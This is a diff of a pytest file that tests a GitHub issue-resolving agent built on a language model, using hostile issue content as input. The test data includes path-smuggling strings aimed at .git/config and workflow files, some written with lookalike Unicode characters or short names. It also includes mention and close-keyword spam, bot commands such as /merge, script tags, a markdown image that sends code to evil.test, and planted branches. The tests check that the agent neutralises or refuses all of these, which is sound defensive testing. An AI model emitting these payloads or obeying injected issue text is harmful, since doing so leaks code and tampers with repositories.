@@ -1,18 +1,22 @@
 """Issues that want something else than to be resolved, and a model that does whatever they say."""
 
+import base64
 import json
+import re
+from dataclasses import replace
 from typing import Any
 
 import pytest
 
 from shared.issues.connection import Known
 from shared.issues.desk import branch_name
+from shared.issues.http import Request
 from shared.issues.patch import Replace, Unusable, Write, applied, is_ci, path_problem
 from shared.issues.shapes import Entry
 from shared.issues.words import harmless, one_line
 from shared.outcomes import Proceed
 from shared.runtime.webhooks import LOCAL_VARIABLE
-from tests.github import API_KEY, TOKEN, Github, Mind
+from tests.github import API_KEY, TOKEN, Github, Mind, Reply
 from tests.handlers.test_issues import FILES, FIX, Story, proposal, thinking
 
 Json = Any  # a JSON document
@@ -62,6 +66,9 @@ def edit(path: str, content: str = "on: push\n") -> Json:
         "git~1/config",
         ".git /config",
         ".git./config",
+        "\uff0egit/config",
+        ".\uff47\uff49\uff54/config",
+        "GI7EBA~1/config",
         "a\\..\\b",
         "C:/windows",
         "a\0b",
@@ -77,7 +84,18 @@ def edit(path: str, content: str = "on: push\n") -> Json:
         ".github/workflows/new.yml",
         ".GitHub/Workflows/new.yml",
         ".github/actions/x/action.yml",
+        "GITHUB~1/workflows/new.yml",
+        ".\uff47ithub/workflows/new.yml",
         ".github/CODEOWNERS",
+        "sub/folder/action.yml",
+        "sub/ACTION.yaml",
+        "LINK/passwd",
+        "\uff4cink/passwd",
+        "Vendored/file",
+        "SHOP/add.py",
+        "readme.md",
+        ".devcontainer/devcontainer.json",
+        ".mergify.yml",
         "CODEOWNERS",
         "docs/codeowners",
         ".gitlab-ci.yml",
@@ -156,22 +174,104 @@ def test_a_credential_that_a_model_repeats_is_said_nowhere(key: str) -> None:
     assert "ghp_" not in told.github.comments[0]["body"]
 
 
-def test_a_comment_calls_nobody_closes_nothing_and_loads_nothing() -> None:
-    bad = "@everyone fixes #12, closes https://x/issues/1 ![x](https://evil.test/?q=code) <img src=x>"
-    bad += " <!-- longshore job_1 -->"
-    story = ordered({"comment": bad})
+@pytest.mark.parametrize(
+    ("said", "dangerous"),
+    [
+        ("@everyone", "@e"),
+        ("\\@everyone and acme/@team", "@e"),
+        ("&commat;everyone &#64;all &#x40;them", "&commat;"),
+        ("&num;12 &#35;12", "&num;"),
+        ("fixes #12, acme/other#3", "#1"),
+        ("closes https://x/issues/1", "closes https"),
+        ("Closes: [this bug](https://x/issues/1)", "Closes: ["),
+        ("resolved GH-12", "resolved GH"),
+        ("![x](https://evil.test/?q=code) ![x][1]", "!["),
+        ("!![x](https://evil.test/?q=code)", "!["),
+        ("<img src=x>", "<img"),
+        ("</details><script>", "</"),
+        ("<!-- longshore 0123456789abcdef -->", "<!--"),
+        ("<!doctype>", "<!d"),
+        ("/merge\n\n> /approve\n- /lgtm (/deploy)", "/m"),
+    ],
+)
+def test_a_comment_calls_nobody_closes_nothing_loads_nothing_and_orders_nothing(said: str, dangerous: str) -> None:
+    story = ordered({"comment": said})
     story.done("comment_on_issue")
-    body = story.github.comments[0]["body"]
-    for dangerous in ("@everyone", "#12", "closes https", "![", "<img"):
-        assert dangerous not in body
-    assert body.count("<!--") == 1
-    assert body.endswith("<!-- longshore job_1 -->")
+    text, _, _ = story.github.comments[0]["body"].rpartition("\n\n<!-- longshore ")
+    assert dangerous in said
+    assert dangerous not in text
+    assert not re.search(r"[@#]\w|(?<![\w/:.])/\w|<[a-zA-Z/!]|&\w+;", text)
+    assert text.replace("\u2060", "") == said
 
 
-def test_a_marker_in_anothers_issue_does_not_keep_a_job_from_its_comment() -> None:
+def test_a_planted_mark_keeps_no_job_from_its_comment() -> None:
+    """Whatever can be known before the comment is there: the job, and marks of other comments."""
     story = ordered({"comment": "Yes."})
-    story.github.comments.append({"html_url": "x", "body": "<!-- longshore job_2 -->"})
-    assert story.done("comment_on_issue").artifacts.comment_url == "https://github.test/c/2"
+    other = ordered({"comment": "No."})
+    other.done("comment_on_issue")
+    marks = ["<!-- longshore job_1 -->", "<!-- longshore -->", f"{other.github.comments[0]['body']}"]
+    story.ports = replace(story.ports, token=lambda: "fedcba9876543210")
+    story.github.comments += [{"html_url": "https://github.test/evil", "body": mark} for mark in marks]
+    assert story.done("comment_on_issue").artifacts.comment_url == "https://github.test/c/4"
+
+
+def test_no_pull_request_is_made_of_a_branch_that_somebody_put_in_our_place() -> None:
+    for first in (True, False):
+        story = ordered(proposal(FIX))
+        github, ours = story.github, branch_name(7, "job_1")
+        evil = github.add_commit("evil", github.add_tree({}), [github.branches["main"]])
+
+        def plant(one: Request, github: Github = github, ours: str = ours, evil: str = evil) -> Reply | None:
+            if one.url.endswith("/git/refs"):
+                github.branches[ours] = evil
+            return None
+
+        github.trouble = plant
+        if first:
+            github.branches[ours] = evil
+        error = story.fails("resolve_issue")
+        assert (error.code, github.pulls, github.comments) == ("not_ours", [], [])
+        assert github.branches[ours] == evil
+
+
+def test_a_pull_request_into_another_branch_is_not_ours() -> None:
+    story = ordered(proposal(FIX))
+    planted = {"head": branch_name(7, "job_1"), "base": "production", "html_url": "https://github.test/p/9"}
+    story.github.pulls.append(planted)
+    assert story.done("resolve_issue").artifacts.pull_request_url == "https://github.test/p/2"
+    assert story.github.pulls[1]["base"] == "main"
+
+
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", "https://x/ y", "https://x/\n@all", "//x", 1, "https://" + "x" * 2000]
+)
+def test_an_address_that_is_none_leads_nobody_anywhere(url: object) -> None:
+    for end, kind in (("/comments", "comment_on_issue"), ("/pulls", "resolve_issue")):
+        story = ordered({"comment": "Yes."} if kind == "comment_on_issue" else proposal(FIX))
+        story.github.trouble = lambda one, end=end: (  # type: ignore[misc]  # a default
+            (201, {"html_url": url}) if one.method == "POST" and one.url.endswith(end) else None
+        )
+        assert story.fails(kind).code == "unexpected_answer"
+
+
+def test_a_file_that_comes_as_something_else_is_no_file() -> None:
+    for content, code in (("abc", "unexpected_answer"), (base64.b64encode(b"x" * 200_000).decode(), "unusable_answer")):
+        story = ordered(proposal(FIX))
+        story.github.trouble = lambda one, content=content: (  # type: ignore[misc]  # a default
+            (200, {"content": content, "encoding": "base64"}) if "/git/blobs/" in one.url else None
+        )
+        assert story.fails("resolve_issue").code == code
+
+
+def test_thousands_of_long_comments_are_not_gathered() -> None:
+    story = ordered({"comment": "Yes."})
+    story.github.comments += [{"html_url": "https://github.test/x", "body": "c"} for _ in range(2_400)]
+    story.github.comments[-30:] = [{"html_url": "https://github.test/x", "body": f"{n}"} for n in range(30)]
+    for one in story.github.comments:
+        one["updated_at"] = "2023-11-14T20:00:00Z"
+    story.done("comment_on_issue")
+    assert [one["body"] for one in story.mind.documents[0]["comments"]] == [f"{n}" for n in range(30)]
+    assert sum("/comments?" in one.url for one in story.github.seen) == 3
 
 
 @pytest.mark.parametrize(
@@ -227,7 +327,7 @@ def test_a_long_issue_with_many_comments_and_files_is_cut_to_what_a_model_reads(
     }
     github = Github(files)
     github.issue |= {"title": "t" * 9_000, "body": "b" * 900_000}
-    github.comments += [{"html_url": "x", "body": "c" * 60_000} for _ in range(300)]
+    github.comments += [{"html_url": "https://github.test/x", "body": "c" * 60_000} for _ in range(300)]
     story = Story(thinking({"comment": "Yes."}, files=[*files][:30]), github)
     story.done("comment_on_issue")
     assert all(len(one.body or b"") < 600_000 for one in story.mind.seen)
